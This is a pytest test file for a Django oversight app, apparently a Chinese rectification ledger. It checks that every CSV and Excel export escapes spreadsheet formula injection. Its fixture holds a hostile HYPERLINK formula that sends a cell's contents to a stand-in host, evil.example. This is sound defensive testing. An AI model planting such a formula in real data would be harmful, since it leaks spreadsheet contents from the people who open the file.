"""Every CSV and .xlsx download of the oversight pages writes user text as inert text: a department or
a unit name typed as a formula starts with a quote, never with = + - @ tab or CR."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from zhenggai.ledger.models import Finding
from zhenggai.ledger.services.assign import assign_task
from zhenggai.outputs.cells import TRIGGERS

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?c="&A1,"查看")'


@pytest.fixture
def hostile(world):
    task = world["tasks"][0]
    assign_task(task, actor=world["users"]["office"], department=FORMULA, responsible_leader="@局长")
    unit = world["b"].unit
    unit.name = "-青溪县林业局党组"
    unit.save()
    finding = Finding.objects.filter(inspection=world["b"], kind="item").order_by("pk").first()
    finding.title = "+" + finding.title
    finding.save()
    return world


def csv_cells(response) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def test_the_csv_downloads_neutralise_formulas(hostile, login):
    client = login(hostile["users"]["office"])
    urls = [
        reverse("oversight:tasks_csv"),
        reverse("oversight:overview_csv"),
        reverse("oversight:round_csv", args=[hostile["round"].pk, "units"]),
        reverse("oversight:common_export", args=["csv"]) + f"?round={hostile['round'].pk}",
        reverse("oversight:quality_csv"),
    ]
    seen = []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = csv_cells(response)
        assert not [c for c in cells if c.startswith(TRIGGERS)], url
        seen += cells
    assert "'" + FORMULA in seen and "'@局长" in seen
    assert "'-青溪县林业局党组" in seen


def test_the_common_problems_workbook_neutralises_formulas(hostile, login):
    client = login(hostile["users"]["office"])
    url = reverse("oversight:common_export", args=["xlsx"]) + f"?round={hostile['round'].pk}"
    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
    texts = []
    for row in sheet.iter_rows():
        for item in row:
            if isinstance(item.value, str):
                assert item.data_type == "s" and not item.value.startswith(TRIGGERS), item.value
                texts.append(item.value)
    assert "'-青溪县林业局党组" in texts
